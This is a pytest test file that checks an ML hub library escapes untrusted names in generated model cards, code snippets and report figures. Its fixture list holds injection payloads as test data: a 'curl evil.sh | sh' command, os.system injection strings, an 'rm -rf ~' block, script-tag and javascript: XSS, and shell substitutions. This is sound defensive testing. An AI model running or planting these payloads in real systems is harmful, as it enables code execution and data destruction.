"""Names that somebody else chose reach cards and figures as names, whatever they hold."""

from __future__ import annotations

import ast
import json
import re
import shlex

import pytest
from hypothesis import given
from hypothesis import strategies as st

from optimum_rmtkd.hub import Run, model_card, write_card
from optimum_rmtkd.hub.page import report_page
from optimum_rmtkd.pages.escaping import code_span, figure_text, identifier, markdown, one_line

from ..fuzz import many
from .server import card_errors
from .test_card import CONFIG, STAGE


EVIL = [
    "x; curl evil.sh | sh #",
    'x"); import os; os.system("id"); ("',
    "x'); import os; ('",
    "a\n\n# Heading\n\n```bash\nrm -rf ~\n```",
    "<script>alert(1)</script>",
    "[click](javascript:alert(1)) ![](http://evil/x.png)",
    "a | b | c",
    "$(id) `id` ${HOME}",
    r"$\x$ \frac{",
    "\u202eevil\u2028x\x1b[31m\x00\ud800",
    "``` ~~~ ***",
    "\\",
    "x" * 10_000,
]


def record(evil: str) -> dict:
    """What a run may hold, with the name wherever a name stands."""
    site = {"name": evil, "width_before": 8, "width_after": 4}
    stage = STAGE | {"metric_name": evil, "reason": evil, "note": evil, "sites": [site]}
    stage |= {"metrics_after": {evil: 0.5, f"eval_{evil}": 0.25}}
    config = CONFIG | {"rmtkd": {"recipe": {evil: evil, "seed": evil}, "provenance": {"base_model": evil}}}
    config |= {"auto_map": {evil: "modeling_rmtkd.RMTKDBertModel"}}
    dataset = {"id": evil, "name": evil, "config": evil, "split": evil, "rows": 3}
    history = [{"step": step, "loss": 1.0, f"loss/{evil}": 0.5} for step in range(3)]
    return {
        "name": "small",
        "config": config,
        "stages": (stage,),
        "results": {"dataset": dataset, "log_history": history, "base_model": evil},
        "bench": {"setting": evil, "rows": [[evil, "1", "2", evil]]},
        "fit": {"steps": 3, "share": 0.5, "why": evil},
        "metrics": {"before": {evil: 0.1}, "after": {evil: 0.2}},
    }


def blocks(text: str, language: str) -> list[str]:
    return re.findall(rf"^```{language}\n(.*?)^```$", text, re.MULTILINE | re.DOTALL)


def skeleton(text: str) -> list[str]:
    """What gives a card its shape: fences, headings, and the number of cells of each row."""
    shape, border = [], re.compile(r"(?<!\\)[|]")
    for line in text.splitlines():
        if line.startswith(("```", "#")):
            shape.append(line if line != "# small" else "#")
        elif line.startswith("|"):
            shape.append(f"row of {len(border.findall(line))}")
    return shape


@pytest.mark.parametrize("evil", EVIL, ids=range(len(EVIL)))
def test_a_card_has_the_same_shape_whatever_the_names_are(evil):
    plain, card = model_card(Run(**record("name")), "name"), model_card(Run(**record(evil)), evil)
    body, usual = card.text, plain.text
    assert [line for line in skeleton(body) if line[:2] != "# "] == [s for s in skeleton(usual) if s[:2] != "# "]
    assert body.count("\n") == usual.count("\n")
    text = re.sub(r"^```.*?^```$", "", body, flags=re.MULTILINE | re.DOTALL)
    text = re.sub(r"(`+) ?.*? ?\1", "", text)
    assert not re.search(r"(?<!\\)<", text) and not re.search(r"(?<!\\)\]\((?!https://huggingface.co/)", text)
    assert card_errors(str(card)) == [] or len(evil) > 100 or "\ud800" in evil


@pytest.mark.parametrize("evil", EVIL, ids=range(len(EVIL)))
def test_blocks_to_be_copied_hold_the_name_as_one_word(evil):
    text = model_card(Run(**record(evil)), evil).text
    calls = []
    for block in blocks(text, "python"):
        tree = ast.parse(block)
        assert {type(node) for node in tree.body} <= {ast.Import, ast.ImportFrom, ast.Assign}
        calls += [node for node in ast.walk(tree) if isinstance(node, ast.Call)]
        assert all(a.name in ("AutoModel", "optimum_rmtkd") for n in tree.body if hasattr(n, "names") for a in n.names)
    assert len(calls) == 2
    for call in calls:
        assert (
            ast.literal_eval(call.args[0]) == one_line(evil) and ast.unparse(call.func) == "AutoModel.from_pretrained"
        )
    (command,) = blocks(text, "bash")
    words = shlex.split(command.replace("\\\n", " "), comments=True)
    assert words[:4] == ["optimum-cli", "rmtkd", "compress", "--model"] and words[5] == "--recipe"
    assert words[4] == one_line(Run(**record(evil)).base_model or "BASE_MODEL")
    (recipe,) = blocks(text, "json")
    assert evil in json.loads(recipe)


def test_an_ordinary_name_stays_as_it_is():
    for name in ("user/bert-base_uncased", "eval_accuracy", "f1 (macro)", "DistilBERT 2.0", "données"):
        assert markdown(name) == one_line(name) == name
    assert code_span("bert-base") == "`bert-base`"
    assert identifier("AutoModelForMaskedLM", "AutoModel") == "AutoModelForMaskedLM"


@given(st.text(max_size=30))
@many(300)
def test_any_text_stays_on_its_line_and_in_its_cell(text):
    for escaped in (markdown(text), code_span(text), figure_text(text)):
        assert len(escaped.splitlines()) <= 1
        escaped.encode("utf8")
    assert not re.search(r"(?<!\\)(\\\\)*[|<\[]", markdown(text))
    assert figure_text(text).count("$") == figure_text(text).count(r"\$")


@pytest.mark.parametrize("evil", [r"$\x$", r"\$\x$ $", "$$", "a\nb\x00\ud800"], ids=range(4))
def test_figures_and_report_take_any_name(evil, tmp_path):
    pytest.importorskip("matplotlib")
    values = record(evil)
    page = report_page(Run(**values))
    assert "<svg" in page
    for name in ("config", "stages", "results"):
        content = values[name] if name != "stages" else {"stages": list(values["stages"])}
        file = "config.json" if name == "config" else f"rmtkd_{name}.json"
        (tmp_path / file).write_text(json.dumps(content))
    assert "![" in write_card(tmp_path).read_text(encoding="utf8")


@pytest.mark.parametrize("value", ["0.9", "high", None, True, [1], float("nan")])
def test_metrics_that_are_no_numbers_end_no_card_and_no_report(value):
    pytest.importorskip("matplotlib")
    stage = STAGE | {"metric_before": value, "metric_cut": value, "metric_after": value, "learning_rate": value}
    stage |= {"metrics_after": {"f1": value}}
    results = {
        "metric": {"name": "accuracy", "before": 0.9, "after": value},
        "log_history": [{"step": 1, "loss": value}, {"step": 2, "loss": 1.0}],
        "training": {"epochs": value, "learning_rate": value},
        "dataset": {"name": "data", "rows": value},
    }
    run = Run("small", CONFIG, (stage,), results=results, metrics={"before": {"f1": value}, "after": {"f1": 0.5}})
    card = model_card(run, "user/small")
    assert "| accuracy |" not in card.text and "model-index" not in str(card)
    assert "<svg" in report_page(run)
